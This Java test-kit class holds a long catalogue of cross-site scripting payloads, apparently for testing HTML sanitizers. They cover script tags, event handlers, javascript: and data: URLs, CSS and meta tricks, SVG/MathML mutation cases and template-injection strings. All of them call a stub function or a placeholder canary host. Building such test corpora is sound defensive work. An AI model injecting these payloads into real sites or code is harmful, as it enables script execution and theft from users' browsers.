package io.imprimatur.testkit;

import java.util.List;
import java.util.stream.Stream;

/**
 * Markup that a browser would run, written after the categories of the OWASP cheat sheet on the
 * evasion of XSS filters. What runs calls {@code ran()}, which a test gives to its browser, or asks
 * for something at {@link #CANARY}, which a test puts its own address in place of.
 */
public final class HostileMarkup {

  /** Stands for the address of a server that counts who asks it. */
  public static final String CANARY = "http://canary.example";

  private static final List<String> SCRIPTS =
      List.of(
          "<script>ran()</script>",
          "<SCRIPT>ran()</SCRIPT>",
          "<script src=http://canary.example/s.js></script>",
          "<script src=//canary.example/s.js></script>",
          "<script/x src=\"http://canary.example/s.js\"></script>",
          "<script/src=http://canary.example/s.js></script>",
          "<script\u000csrc=http://canary.example/s.js></script>",
          "<script\n>ran()</script\n>",
          "<script type=module>ran()</script>",
          "<script>ran()//",
          "<<script>ran()//<</script>",
          "<scr<script>ipt>ran()</scr</script>ipt>",
          "<scr\u0000ipt>ran()</scr\u0000ipt>",
          "<script>/*<!--*/ran()//--></script>",
          "<script><!--\nran()\n//--></script>",
          "\"><script>ran()</script>",
          "'><script>ran()</script>",
          "</title><script>ran()</script>",
          "</textarea><script>ran()</script>",
          "--><script>ran()</script>",
          "]]><script>ran()</script>",
          "</style><script>ran()</script>",
          "</script><script>ran()</script>",
          "\u00bcscript\u00beran()\u00bc/script\u00be",
          "+ADw-script+AD4-ran()+ADw-/script+AD4-",
          "<s\u0131cript>ran()</s\u0131cript>",
          "<\u017fcript>ran()</\u017fcript>");

  private static final List<String> HANDLERS =
      List.of(
          "<img src=x onerror=ran()>",
          "<IMG SRC=x OnErRoR=ran()>",
          "<img src=x onerror=\"ran()\" alt=>",
          "<img src=x:x onerror=&#114;&#97;&#110;&#40;&#41;>",
          "<img src=x onerror=&#x72&#x61&#x6e&#x28&#x29>",
          "<img src=x onerror=&#0000114&#0000097&#0000110&#0000040&#0000041>",
          "<img/src=x/onerror=ran()>",
          "<img src=x\u000conerror=ran()>",
          "<img src=x onerror\n=\nran()>",
          "<img src=`x`onerror=ran()>",
          "<img \"\"\"><img src=x onerror=ran()>\">",
          "<img src='x'onerror='ran()'",
          "<img src=\"x\" title=\"'><img src=x onerror=ran()>\">",
          "<img src=x alt=\"`onerror=ran()\" onerror=ran()>",
          "<body onload=ran()>",
          "<body onpageshow=ran()>",
          "<iframe onload=ran()></iframe>",
          "<input autofocus onfocus=ran()>",
          "<select autofocus onfocus=ran()>",
          "<textarea autofocus onfocus=ran()>",
          "<p tabindex=1 autofocus onfocus=ran()>x</p>",
          "<p contenteditable autofocus onfocusin=ran()>x</p>",
          "<details open ontoggle=ran()><summary>x</summary>y</details>",
          "<video><source onerror=ran()></video>",
          "<video src=x onerror=ran()></video>",
          "<audio src=x onerror=ran()></audio>",
          "<marquee onstart=ran()>x</marquee>",
          "<object data=x onerror=ran()></object>",
          "<link rel=stylesheet href=x onerror=ran()>",
          "<style onload=ran()></style>",
          "<p style=animation-name:x onanimationstart=ran()>x</p><style>@keyframes x{}</style>",
          "<b onmouseover=ran() onclick=ran()>x</b>",
          "<a onclick=ran() onauxclick=ran() href=https://a.example>x</a>",
          "<a href='https://a.example\" onfocus=\"ran()' autofocus>x</a>",
          "<td background=http://canary.example/b onfocus=ran() tabindex=0 autofocus>x</td>");

  private static final List<String> ADDRESSES =
      List.of(
          "<a href=javascript:ran()>x</a>",
          "<a href=\"JaVaScRiPt:ran()\">x</a>",
          "<a href=\" javascript:ran()\">x</a>",
          "<a href=\"\u0001javascript:ran()\">x</a>",
          "<a href=\"jav\tascript:ran()\">x</a>",
          "<a href=\"jav&#x09;ascript:ran()\">x</a>",
          "<a href=\"jav&#x0A;ascript:ran()\">x</a>",
          "<a href=\"jav&#x0D;ascript:ran()\">x</a>",
          "<a href=\"javascript&colon;ran()\">x</a>",
          "<a href=\"javascript&#58;ran()\">x</a>",
          "<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58&#114&#97&#110&#40&#41\">x</a>",
          "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x72&#x61&#x6e&#x28&#x29\">x</a>",
          "<a href=\"javascript://a.example/%0aran()\">x</a>",
          "<a href=\"data:text/html,<script>ran()</script>\">x</a>",
          "<a href=\"data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==\">x</a>",
          "<a href=vbscript:ran()>x</a>",
          "<a href=\"view-source:javascript:ran()\">x</a>",
          "<a href=\"blob:http://canary.example/x\">x</a>",
          "<a href=\"//canary.example/\" ping=http://canary.example/ping>x</a>",
          "<a xlink:href=javascript:ran()>x</a>",
          "<a href=https://a.example target=_blank rel=opener>x</a>",
          "<img src=javascript:ran()>",
          "<img src=http://canary.example/i>",
          "<img srcset=\"http://canary.example/i 1x\">",
          "<img dynsrc=javascript:ran() lowsrc=javascript:ran()>",
          "<input type=image src=http://canary.example/i>",
          "<table background=http://canary.example/b><tr><td>x</table>",
          "<bgsound src=http://canary.example/b>",
          "<iframe src=javascript:parent.ran()></iframe>",
          "<iframe src=\"data:text/html,<script>parent.ran()</script>\"></iframe>",
          "<iframe srcdoc=\"<script>parent.ran()</script>\"></iframe>",
          "<iframe srcdoc=\"&lt;img src=x onerror=parent.ran()&gt;\"></iframe>",
          "<iframe src=http://canary.example/f></iframe>",
          "<frameset><frame src=javascript:parent.ran()></frameset>",
          "<embed src=javascript:ran()>",
          "<embed src=http://canary.example/e>",
          "<object data=javascript:ran()></object>",
          "<object data=http://canary.example/o></object>",
          "<portal src=http://canary.example/p></portal>",
          "<applet code=x codebase=http://canary.example/></applet>");

  private static final List<String> PAGES =
      List.of(
          "<base href=http://canary.example/>",
          "<base target=_top href=javascript:/ran()//>",
          "<meta http-equiv=refresh content=\"0;url=http://canary.example/m\">",
          "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>ran()</script>\">",
          "<meta http-equiv=set-cookie content=a=b>",
          "<link rel=stylesheet href=http://canary.example/l.css>",
          "<link rel=prefetch href=http://canary.example/l>",
          "<link rel=import href=http://canary.example/l>",
          "<form action=http://canary.example/f><button>x</button></form>",
          "<form id=f></form><button form=f formaction=javascript:ran()>x</button>",
          "<form><button formaction=javascript:ran()>x</button></form>",
          "<form><input name=attributes><input name=parentNode></form>",
          "<isindex action=javascript:ran() type=image>",
          "<button onclick=ran() autofocus>x</button>",
          "<style>@import 'http://canary.example/i.css';</style>",
          "<style>*{background:url(http://canary.example/c)}</style>",
          "<p style=\"background:url(http://canary.example/c)\">x</p>",
          "<p style=\"background:\\0075\\0072\\006C(http://canary.example/c)\">x</p>",
          "<p style=\"width:expression(ran())\">x</p>",
          "<p style=\"x:ex/*y*/pression(ran())\">x</p>",
          "<p style=\"behavior:url(http://canary.example/x.htc);-moz-binding:url(http://canary.example/x.xml#x)\">x</p>",
          "<p id=__proto__ name=cookie>x</p>",
          "<div popover id=p>x</div><input type=hidden oncontentvisibilityautostatechange=ran() style=content-visibility:auto>");

  private static final List<String> NAMESPACES =
      List.of(
          "<svg onload=ran()>",
          "<svg/onload=ran()>",
          "<svg><script>ran()</script></svg>",
          "<svg><script href=http://canary.example/s.js /></svg>",
          "<svg><script>ran&#40;&#41;</script></svg>",
          "<svg><a href=javascript:ran()><text y=20>x</text></a></svg>",
          "<svg><animate onbegin=ran() attributeName=x dur=1s>",
          "<svg><a><animate attributeName=href values=javascript:ran() /><text y=20>x</text></a></svg>",
          "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='ran()'/></svg>#x\"/></svg>",
          "<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>",
          "<svg><image href=http://canary.example/i /></svg>",
          "<svg><desc><img src=x onerror=ran()></desc></svg>",
          "<svg><title><img src=x onerror=ran()></title></svg>",
          "<math href=javascript:ran()>x</math>",
          "<math><a xlink:href=javascript:ran()>x</a></math>",
          "<math><maction actiontype=statusline xlink:href=javascript:ran()>x</maction></math>",
          "<math><mi><img src=x onerror=ran()></mi></math>",
          "<?xml version=1.0?><x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>ran()</h:script></x>",
          "<xml><i><b>&lt;img src=x onerror=ran()&gt;</b></i></xml>",
          "<!DOCTYPE x [<!ENTITY y '<img src=x onerror=ran()>'>]><p>&y;</p>");

  /** Reads otherwise the second time, or beside other markup. */
  private static final List<String> MUTATIONS =
      List.of(
          "<noscript><p title=\"</noscript><img src=x onerror=ran()>\"></p></noscript>",
          "<textarea><p title=\"</textarea><img src=x onerror=ran()>\"></p>",
          "<title><p title=\"</title><img src=x onerror=ran()>\"></p>",
          "<style><p title=\"</style><img src=x onerror=ran()>\"></p>",
          "<xmp><p title=\"</xmp><img src=x onerror=ran()>\"></p>",
          "<noembed><p title=\"</noembed><img src=x onerror=ran()>\"></p>",
          "<noframes><p title=\"</noframes><img src=x onerror=ran()>\"></p>",
          "<iframe><p title=\"</iframe><img src=x onerror=ran()>\"></p>",
          "<template><img src=x onerror=ran()></template>",
          "<template shadowrootmode=open><img src=x onerror=ran()></template>",
          "<!--><img src=x onerror=ran()>-->",
          "<!--!><img src=x onerror=ran()>--!>",
          "<!-- --!><img src=x onerror=ran()>-->",
          "<!--[if true]><script>ran()</script><![endif]-->",
          "<!-- `><img/src=x onerror=ran()> -->",
          "<![CDATA[<img src=x onerror=ran()>]]>",
          "<svg><![CDATA[><img src=x onerror=ran()>]]></svg>",
          "<svg></p><style><a id=\"</style><img src=x onerror=ran()>\">",
          "<svg><style><!--</style><img src=x onerror=ran()>--></svg>",
          "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=ran()&gt;\">",
          "<math><mtext><table><mglyph><svg><mtext><style><a title=\"</style><img src=x onerror=ran()>\">",
          "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>",
          "<math><annotation-xml encoding=text/html><style></math><img src=x onerror=ran()></style>",
          "<p><svg><p><style><!--</style><img src=x onerror=ran()>",
          "<table><a href='</table><img src=x onerror=ran()>'>x</a>",
          "<select><template><img src=x onerror=ran()></template></select>",
          "<select><style></select><img src=x onerror=ran()></style>",
          "<a><table><td></a><img src=x onerror=ran()>",
          "<b <script>ran()</script>>x</b>",
          "<p/title=\"&quot;&gt;&lt;img src=x onerror=ran()&gt;\">x</p>",
          "&lt;img src=x onerror=ran()&gt;",
          "&amp;lt;img src=x onerror=ran()&amp;gt;",
          "{{constructor.constructor('ran()')()}}",
          "${ran()} #{ran()} <%= ran() %> [[${T(java.lang.Runtime)}]]",
          "<p hx-get=http://canary.example/h hx-trigger=load>x</p>",
          "<p data-hx-on:load=ran() hx-on:htmx:load=ran()>x</p>",
          "<p th:utext=\"${x}\" th:text=\"${T(java.lang.Runtime)}\">x</p>");

  /** Takes all the text behind it, so it stands last. */
  private static final List<String> SWALLOWING =
      List.of(
          "<plaintext><img src=x onerror=ran()>",
          "<img src=\"x onerror=ran()",
          "<a href='https://a.example",
          "<!-- <img src=x onerror=ran()>");

  private HostileMarkup() {}

  /** Each case, with its own address of the canary. */
  public static List<String> all(String canary) {
    return Stream.of(SCRIPTS, HANDLERS, ADDRESSES, PAGES, NAMESPACES, MUTATIONS, SWALLOWING)
        .flatMap(List::stream)
        .map(markup -> at(canary, markup))
        .toList();
  }

  /** Some of each kind, short enough to be a title. */
  public static List<String> forTitles(String canary) {
    return Stream.of(
            "<script>ran()</script>",
            "\"><img src=x onerror=ran()>",
            "'><svg/onload=ran()>",
            "</title></textarea></script><img src=x onerror=ran()>",
            "\" autofocus onfocus=\"ran()",
            "javascript:ran()",
            "--><![CDATA[]]><img src=http://canary.example/t>",
            "{{constructor.constructor('ran()')()}} [[${T(java.lang.Runtime)}]]",
            "&lt;img src=x onerror=ran()&gt; &quot;&#39;")
        .map(markup -> at(canary, markup))
        .toList();
  }

  private static String at(String canary, String markup) {
    return markup
        .replace(CANARY, canary)
        .replace(CANARY.substring("http:".length()), canary.substring("http:".length()));
  }
}
